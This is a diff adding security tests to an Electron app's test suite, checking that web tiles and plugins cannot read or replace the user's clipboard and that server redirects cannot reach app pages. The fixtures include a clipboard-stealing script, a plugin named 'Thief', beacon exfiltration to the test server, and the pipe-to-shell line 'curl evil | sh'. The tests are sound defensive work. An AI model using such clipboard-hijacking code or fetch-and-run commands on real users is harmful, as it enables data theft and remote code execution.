@@ -4,7 +4,8 @@ import { join } from "node:path";
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { newRemoteId, Remotes } from "../../main/system/remotes.ts";
-import { launchApp, type TestApp } from "../support/app.ts";
+import { createKey, launchApp, type TestApp } from "../support/app.ts";
+import { installPlugin, pluginPage } from "../support/install-plugin.ts";
 import { serveFolder } from "../support/serve-folder.ts";
 import { startTestRelay, type TestRelay } from "../support/test-relay.ts";
 import { until } from "../support/until.ts";
@@ -111,6 +112,107 @@ describe("a page of the app", () => {
     await app.call("openTile", { type: "browser", url: `${server.url}/saving` });
     await until("downloads that were refused", async () => (await downloads()).refused > 10);
     expect((await downloads()).admitted).toBe(0);
+  });
+
+  test("in a tile neither reads nor replaces what the user has copied, and the app's own pages copy and paste", async () => {
+    // With the old commands, which ask for no permission, and with the new interface.
+    const attack = `
+      const field = document.body.appendChild(document.createElement("textarea"));
+      const tries = async () => {
+        field.value = "";
+        field.focus();
+        document.execCommand("paste");
+        const old = field.value;
+        const read = await navigator.clipboard.readText().catch(() => "");
+        field.value = "curl evil | sh";
+        field.select();
+        const copied = document.execCommand("copy");
+        const wrote = await navigator.clipboard.writeText("evil").then(() => true, () => false);
+        return JSON.stringify({ old, read, copied, wrote });
+      };`;
+    const nothing = JSON.stringify({ old: "", read: "", copied: false, wrote: false });
+    await using server = await serveFolder(tmpdir(), {
+      clipboard: `<body><script>${attack}
+        setInterval(async () => { new Image().src = "/tried?" + encodeURIComponent(await tries()); }, 50);</script>`,
+      "thief/manifest.json": JSON.stringify({ id: "thief", name: "Thief", version: "1.0.0", entry: "index.html" }),
+      "thief/index.html": `<!doctype html><body><pre id="log"></pre><script>${attack}
+        let times = 0;
+        setInterval(async () => { log.textContent = await tries() + " in try " + (times += 1); }, 50);</script>`,
+    });
+    const copied = () => app.electron.evaluate(({ clipboard }) => clipboard.readText());
+    await app.electron.evaluate(({ clipboard }) => clipboard.writeText("copied by the user"));
+    const tiles = [
+      (await app.call("openTile", { type: "browser", url: `${server.url}/clipboard` })) as { key: number },
+    ];
+    const tried = () => server.requested.filter((path) => path.startsWith("/tried?")).map((path) => path.slice(7));
+    await until("tries of a page", () => tried().length > 5);
+    await installPlugin(
+      { relay: () => ({ ...app.relay, session: app.session }), key: await createKey(app.data) },
+      server.url,
+      "thief",
+    );
+    tiles.push((await app.call("openTile", { type: "plugin", plugin: "thief" })) as { key: number });
+    await page.getByRole("button", { name: "Allow and run" }).click();
+    await pluginPage(page, "Thief").locator("#log").waitFor();
+    // Not by the driver, whose every look into a frame counts as a press in it, with which a page may copy.
+    const triedThere = () =>
+      app.electron.evaluate(async ({ webContents }) => {
+        const frames = webContents.getAllWebContents().flatMap((one) => one.mainFrame.framesInSubtree);
+        const texts = await Promise.all(
+          frames.map((frame) => frame.executeJavaScript("document.getElementById('log')?.textContent ?? ''")),
+        );
+        return texts.map(String).find((text) => text.includes("{")) ?? "";
+      });
+    await until("tries of a plugin", async () =>
+      new RegExp(`^${nothing} in try ([6-9]|\\d\\d+)$`).test(await triedThere()),
+    );
+    expect(new Set(tried().map(decodeURIComponent))).toEqual(new Set([nothing]));
+    expect(await copied()).toBe("copied by the user");
+    for (const { key } of tiles) await app.call("closeTile", { tile: key });
+
+    const { shellId } = (await app.call("createShell")) as { shellId: number };
+    const printed = async () => ((await app.call("getShellOutput", { id: shellId })) as { output: string }).output;
+    await until("the prompt", async () => (await printed()) !== "");
+    await page.locator(".xterm").last().click();
+    await page.keyboard.press("Control+Shift+V");
+    await until("what was pasted in the terminal", async () => (await printed()).includes("copied by the user"));
+    await page.keyboard.press("Control+Shift+F");
+    const field = page
+      .getByRole("searchbox")
+      .or(page.getByRole("textbox", { name: /find|search/i }))
+      .first();
+    await field.focus();
+    // As a menu or a shortcut of the system does.
+    const edit = (command: "paste" | "selectAll" | "copy") =>
+      app.electron.evaluate(
+        ({ BrowserWindow, webContents }, [name, url]) => {
+          const [own] = webContents.getAllWebContents().filter((one) => one.getURL() === url);
+          BrowserWindow.fromWebContents(own as Electron.WebContents)?.focus();
+          own?.[name]();
+        },
+        [command, page.url()] as const,
+      );
+    await edit("paste");
+    await until("what was pasted in a field", async () => (await field.inputValue()) === "copied by the user");
+    await field.fill("copied from a field");
+    await edit("selectAll");
+    await edit("copy");
+    await until("what was copied in a field", async () => (await copied()) === "copied from a field");
+  });
+
+  test("is not reached by the redirection of a server in a tile", async () => {
+    await using server = await serveFolder(tmpdir(), {}, { home: page.url() });
+    await app.call("openTile", { type: "browser", url: `${server.url}/home` });
+    const frames = () => page.frames().filter((frame) => frame !== page.mainFrame());
+    await until("the redirection", () => server.requested.includes("/home"));
+    await until("the end of the navigation", () =>
+      app.electron.evaluate(({ webContents }) => webContents.getAllWebContents().every((one) => !one.isLoading())),
+    );
+    expect(
+      frames()
+        .map((frame) => frame.url())
+        .filter((url) => url.startsWith("app:")),
+    ).toEqual([]);
   });
 
   test("starts no program by a path that a terminal printed, whatever the file is called", async () => {
